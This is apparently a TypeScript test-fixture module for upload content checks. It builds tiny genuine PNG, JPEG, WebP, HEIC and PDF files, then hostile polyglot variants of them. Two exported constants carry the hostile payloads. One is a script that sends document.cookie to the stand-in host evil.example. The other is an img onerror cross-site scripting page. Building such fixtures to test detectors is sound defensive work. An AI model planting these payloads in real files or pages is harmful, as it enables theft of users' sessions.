/**
 * Generated test files for the checks by content: tiny but genuine pictures and a PDF, and the hostile
 * variants built from them (a web page or a script after the picture's end, in its metadata, outside a
 * PDF's streams) and damaged ones (cut short). Bytes only, so Node tests and the sandbox's can share them.
 */

/** A 1×1 PNG. */
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
/** A 2×2 baseline JPEG as Chromium encodes it (its colour profile left out). */
const JPEG =
  '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCAACAAIDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAH/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFQEBAQAAAAAAAAAAAAAAAAAAAwX/xAAUEQEAAAAAAAAAAAAAAAAAAAAA/9oADAMBAAIRAxEAPwCAARn/2Q==';
/** A 2×2 lossy WebP. */
const WEBP = 'UklGRjIAAABXRUJQVlA4ICYAAABwAQCdASoCAAIAAsBMJaACdAGgAAD8ysYTSTo/+LQ/ow/laxeAAA==';

/** The script a polyglot carries. */
export const SCRIPT_TAIL = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
/** The web page a polyglot carries. */
export const HTML_TAIL = '<!DOCTYPE html><html><body><img src=x onerror="alert(1)"></body></html>';

const base64 = (text: string): Uint8Array<ArrayBuffer> => Uint8Array.from(atob(text), (char) => char.charCodeAt(0));

export const tinyPng = () => base64(PNG);
export const tinyJpeg = () => base64(JPEG);
export const tinyWebp = () => base64(WEBP);

/** A HEIC's outline: a `ftyp` box naming the brand, then an `mdat` box of picture data. */
export function tinyHeic(picture: Uint8Array = new Uint8Array([1, 2, 3, 4, 5, 6, 7, 8])): Uint8Array<ArrayBuffer> {
  return concat(box('ftyp', concat('heic', new Uint8Array(4), 'mif1heic')), box('mdat', picture));
}

/** A one-page PDF whose content stream holds `streamText` (default: a line of text). */
export function tinyPdf(
  streamText = 'BT /F1 18 Tf 20 50 Td (Utility bill) Tj ET',
  ending = '%%EOF\n',
): Uint8Array<ArrayBuffer> {
  return concat(
    '%PDF-1.4\n',
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n',
    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R >>\nendobj\n',
    `4 0 obj\n<< /Length ${streamText.length} >>\nstream\n${streamText}\nendstream\nendobj\n`,
    'trailer\n<< /Size 5 /Root 1 0 R >>\n',
    ending,
  );
}

/** Bytes and text (one byte per character) joined. */
export function concat(...parts: (Uint8Array | string)[]): Uint8Array<ArrayBuffer> {
  const arrays = parts.map((part) =>
    typeof part === 'string' ? Uint8Array.from(part, (char) => char.charCodeAt(0)) : part,
  );
  const out = new Uint8Array(arrays.reduce((sum, array) => sum + array.length, 0));
  let at = 0;
  for (const array of arrays) {
    out.set(array, at);
    at += array.length;
  }
  return out;
}

/** The PNG with a chunk (e.g. a `tEXt` comment) inserted before its `IEND`, with a correct CRC. */
export function pngWithChunk(png: Uint8Array, type: string, data: string): Uint8Array<ArrayBuffer> {
  const iend = png.length - 12;
  const body = concat(type, data);
  const chunk = concat(u32(data.length), body, u32(crc32(body)));
  return concat(png.subarray(0, iend), chunk, png.subarray(iend));
}

/** The JPEG with a comment segment (`COM`) right after its start. */
export function jpegWithComment(jpeg: Uint8Array, comment: string): Uint8Array<ArrayBuffer> {
  const length = comment.length + 2;
  return concat(
    jpeg.subarray(0, 2),
    new Uint8Array([0xff, 0xfe, length >> 8, length & 0xff]),
    comment,
    jpeg.subarray(2),
  );
}

/** An ISO base media box. */
function box(type: string, payload: Uint8Array): Uint8Array<ArrayBuffer> {
  return concat(u32(8 + payload.length), type, payload);
}

function u32(value: number): Uint8Array {
  return new Uint8Array([value >>> 24, (value >>> 16) & 0xff, (value >>> 8) & 0xff, value & 0xff]);
}

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return (crc ^ 0xffffffff) >>> 0;
}
